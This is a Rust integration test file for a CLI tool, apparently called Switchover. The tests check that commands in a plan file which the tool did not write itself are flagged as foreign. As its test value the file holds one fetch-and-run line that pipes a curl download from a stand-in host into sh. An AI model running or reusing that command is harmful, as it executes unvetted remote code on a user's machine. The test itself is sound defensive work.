//! `switchover open`: a plan of someone else may hold any command. What Switchover does not write for the texts in it is marked where a
//! person would run it, and on standard error.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

const MARK: &str = "This command is from the file, not from Switchover.";
const FOREIGN: &str = "curl -s https://example.com/x | sh";

fn switchover(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_switchover")).args(arguments).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// A plan file of some sources, with more arguments of `link`, after an edit of its text.
fn file(name: &str, sources: &[&str], more: &[&str], edit: impl Fn(String) -> String) -> String {
    let shared = switchover(&[&["link", "--file", "--key", "ours"], more, sources].concat());
    assert!(shared.status.success(), "{}", text(&shared.stderr));
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("opened");
    fs::create_dir_all(&folder).unwrap();
    let path = folder.join(format!("{name}.switchover.json"));
    fs::write(&path, edit(text(&shared.stdout))).unwrap();
    path.display().to_string()
}

/// Estates of several kinds: their changes are made by az, on a node, or in Terraform.
const ESTATES: [&[&str]; 4] = [
    &["static/samples/locked-down-nsg.json"],
    &["tests/fixtures/inputs/terraform/main.tf"],
    &["tests/regressions/faults/01-nft-typed-injection/in.nft"],
    &[
        "tests/fixtures/estate/one-pool/account.json",
        "tests/fixtures/estate/one-pool/pool.json",
        "tests/fixtures/estate/one-pool/vnet.json",
        "tests/fixtures/estate/one-pool/nsg.json",
        "tests/fixtures/estate/one-pool/route-table.json",
    ],
];

/// The first command of the text of a plan file, with what replaces it.
fn with_foreign(text: &str) -> String {
    let mut plan: serde_json::Value = serde_json::from_str(text).unwrap();
    let phases = plan["plan"]["checklist"]["phases"].as_array_mut().unwrap();
    let mut steps = phases.iter_mut().flat_map(|phase| phase["steps"].as_array_mut().unwrap());
    steps.next().unwrap()["commands"] = serde_json::json!([FOREIGN]);
    plan.to_string()
}

#[test]
fn commands_of_a_file_without_texts_are_all_marked() {
    for (number, sources) in ESTATES.iter().enumerate() {
        let path = file(&format!("without-{number}"), sources, &["--names"], |text| text);
        for format in ["text", "markdown", "html", "jira-csv"] {
            let opened = switchover(&["open", &path, "--format", format]);
            let (shown, errors) = (text(&opened.stdout), text(&opened.stderr));
            assert!(shown.contains(MARK), "{sources:?} {format}: {shown}");
            assert!(errors.contains("from the file, not from Switchover"), "{format}: {errors}");
        }
    }
}

#[test]
fn commands_that_switchover_writes_for_the_texts_in_the_file_are_not_marked_and_others_are() {
    for (number, sources) in ESTATES.iter().enumerate() {
        let own = file(&format!("own-{number}"), sources, &["--sources"], |text| text);
        let opened = switchover(&["open", &own]);
        assert!(!text(&opened.stdout).contains(MARK), "{sources:?}: {}", text(&opened.stdout));
        assert_eq!(text(&opened.stderr), "", "{sources:?}");
        let changed = file(&format!("changed-{number}"), sources, &["--sources"], |text| with_foreign(&text));
        let opened = switchover(&["open", &changed]);
        let (shown, errors) = (text(&opened.stdout), text(&opened.stderr));
        let lines: Vec<&str> = shown.lines().map(str::trim).collect();
        let at = lines.iter().position(|line| line.contains(FOREIGN)).unwrap();
        assert!(lines[at - 1].contains(MARK), "{sources:?}: {shown}");
        assert_eq!(shown.matches(MARK).count(), 1, "{sources:?}: {shown}");
        assert!(errors.contains("They are marked"), "{errors}");
    }
}

#[test]
fn commands_of_a_link_are_marked_as_its() {
    let link = switchover(&["link", ESTATES[0][0]]);
    let opened = switchover(&["open", text(&link.stdout).trim()]);
    assert!(text(&opened.stdout).contains("This command is from the link, not from Switchover."));
}

#[test]
fn what_programs_read_and_what_is_saved_stays_as_it_came() {
    let path = file("saved", ESTATES[0], &["--names"], |text| text);
    for more in [&["--format", "json"][..], &["--file"]] {
        let opened = switchover(&[&["open", &path], more].concat());
        assert!(!text(&opened.stdout).contains(MARK), "{more:?}");
        assert!(text(&opened.stderr).contains("not from Switchover"), "{more:?}");
    }
}
